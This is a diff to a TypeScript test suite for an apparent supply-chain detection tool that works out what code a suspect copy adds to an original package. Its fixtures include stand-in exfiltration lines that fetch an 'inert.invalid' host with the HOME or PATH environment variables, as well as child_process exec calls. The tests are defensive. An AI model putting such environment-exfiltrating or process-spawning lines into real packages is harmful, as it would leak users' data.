@@ -11,15 +11,22 @@ import { subtract } from './residue.ts';
 
 const CODE = String(MULEPOST['lib/mulepost.js']);
 
-function residue(files: Readonly<Record<string, string>>): Residue {
-  const suspect = copyOf(MULEPOST, { name: 'letter-carrier' }, files);
+/** As a minifier writes `addresses.js`. */
+const minifiedAddresses =
+  '"use strict";exports.split=t=>t.split(",").map(t=>t.trim()).filter(t=>t.includes("@")),exports.domainOf=t=>t.slice(t.lastIndexOf("@")+1).toLowerCase(),' +
+  'exports.isLocal=t=>"localhost"===exports.domainOf(t);';
+
+type Files = Readonly<Record<string, string | Uint8Array | object>>;
+
+function residue(files: Readonly<Record<string, string>>, original: Files = MULEPOST): Residue {
+  const suspect = copyOf(original, { name: 'letter-carrier' }, files);
   const tree = treeOf(suspect);
   return subtract({
     suspect: tree,
-    original: readOriginal(treeOf(MULEPOST)),
+    original: readOriginal(treeOf(original)),
     names: { suspect: 'letter-carrier', original: 'mulepost' },
-    effects: behaviourOf(suspect).effects,
-    usual: behaviourOf(MULEPOST).effects,
+    doing: behaviourOf(suspect),
+    usual: behaviourOf(original),
     placeOf: placer(tree),
   }).residue;
 }
@@ -70,10 +77,7 @@ describe('what is left of a package', () => {
   });
 
   it('is the added code alone where a minifier rewrote the rest', () => {
-    // As a minifier writes `folding.js` and `addresses.js`, with one statement put in.
-    const minified =
-      '"use strict";exports.split=t=>t.split(",").map(t=>t.trim()).filter(t=>t.includes("@")),exports.domainOf=t=>t.slice(t.lastIndexOf("@")+1).toLowerCase(),' +
-      'exports.isLocal=t=>"localhost"===exports.domainOf(t);fetch("https://inert.invalid/"+process.env.HOME);';
+    const minified = `${minifiedAddresses}fetch("https://inert.invalid/"+process.env.HOME);`;
     const { files } = residue({ 'lib/addresses.js': minified });
     const pieces = files.find(one => one.path === 'lib/addresses.js')?.pieces ?? [];
     assert.deepEqual(
@@ -91,6 +95,68 @@ describe('what is left of a package', () => {
       assert.deepEqual([files[0]?.path, effects.map(one => one.kind)], ['lib/mulepost.js', ['spawns']], deed);
     }
     assert.ok(residue({ 'lib/a#b.js': "require('child_process').exec('inert-marker');" }).files.some(one => one.path === 'lib/a#b.js'));
+  });
+
+  it('is what does the same as the original to the same address, with what it never sends there', () => {
+    const original = copyOf(MULEPOST, {}, { 'lib/ping.js': 'exports.ping = url => fetch(url, { method: "POST", body: "ping" });' });
+    const code = 'exports.ping = url => fetch(url, { method: "POST", body: process.env.PATH });';
+    const { files, effects } = residue({ 'lib/ping.js': code }, original);
+    assert.deepEqual([files[0]?.path, effects.filter(one => one.kind === 'connects').length], ['lib/ping.js', 1]);
+    const elsewhere = 'exports.ping = url => fetch("https://inert.invalid/", { method: "POST", body: "ping" });';
+    assert.deepEqual(
+      residue({ 'lib/ping.js': elsewhere }, original).effects.map(one => one.target),
+      ['https://inert.invalid/'],
+    );
+    assert.deepEqual(residue({ 'lib/ping.js': 'exports.ping=o=>fetch(o,{method:"POST",body:"ping"})' }, original).effects, []);
+  });
+
+  it('is what is done in a place that reads as no code', () => {
+    // Types are read as their language has them, and here the two readings part: what is between the slashes is said as a pattern, or run.
+    const code = 'const k: any = 1; export const tell = k! /1; process.env.NEVER; k! /1;';
+    const { effects } = residue({ 'lib/added.ts': code, 'lib/mulepost.js': `require('./added.ts');\n${CODE}` });
+    assert.ok(effects.some(one => one.kind === 'reads environment' && one.target === 'NEVER'));
+  });
+
+  it('is a function that is copied from one file of the original into another', () => {
+    const body = 'const{stdout:e}=o;return e.pipe(o.sink);';
+    const original = copyOf(
+      MULEPOST,
+      {},
+      {
+        'lib/drain.js': 'exports.drain = one => {\n  const { stdout } = one;\n  return stdout.pipe(one.sink);\n};\n',
+      },
+    );
+    const rewritten = (more: string): string => `${minifiedAddresses}${more}`;
+    const same = { 'lib/drain.js': `exports.drain=o=>{${body}};` };
+    assert.equal(residue({ ...same, 'lib/addresses.js': rewritten('') }, original).counted.alike, 2);
+    const { files } = residue({ ...same, 'lib/addresses.js': rewritten(`exports.exec=o=>{${body}};`) }, original);
+    assert.deepEqual(
+      files.flatMap(one => one.pieces.map(piece => piece.at.excerpt)),
+      ['exports.exec=o=>{', 'stdout:e}'],
+    );
+  });
+
+  it('tells of too much what is gravest, and how much is left out', () => {
+    const many = Array.from({ length: 700 }, (_, at) => `exports.a${at} = () => process.env.A${at};`).join('\n');
+    const last = "require('child_process').exec('inert-marker');";
+    const files = Object.fromEntries(Array.from({ length: 600 }, (_, at) => [`lib/more/a${at}.js`, `exports.one = ${at};`]));
+    const found = residue({ ...files, 'lib/mulepost.js': `require('./many');\n${CODE}`, 'lib/many.js': `${many}\n${last}` });
+    assert.ok(found.effects.some(one => one.kind === 'spawns'));
+    assert.ok(found.files.some(one => one.path === 'lib/many.js'));
+    assert.deepEqual([found.files.length, found.effects.length], [500, 500]);
+    assert.deepEqual([found.more.files, found.more.effects], [602 - 500, 701 - 500]);
+  });
+
+  it('is an added file that has comments alone, and the comments of a file that was there are none', () => {
+    const { counted, files } = residue({
+      'lib/notes.js': '// Nothing to see here.\n',
+      'lib/folding.js': `// Folds.\n${String(MULEPOST['lib/folding.js'])}`,
+    });
+    assert.deepEqual([counted.added, counted.alike], [1, 1]);
+    assert.deepEqual(
+      files.map(one => [one.path, one.as]),
+      [['lib/notes.js', 'added']],
+    );
   });
 
   it('is of a page the lines that are new, the name of the package apart', () => {
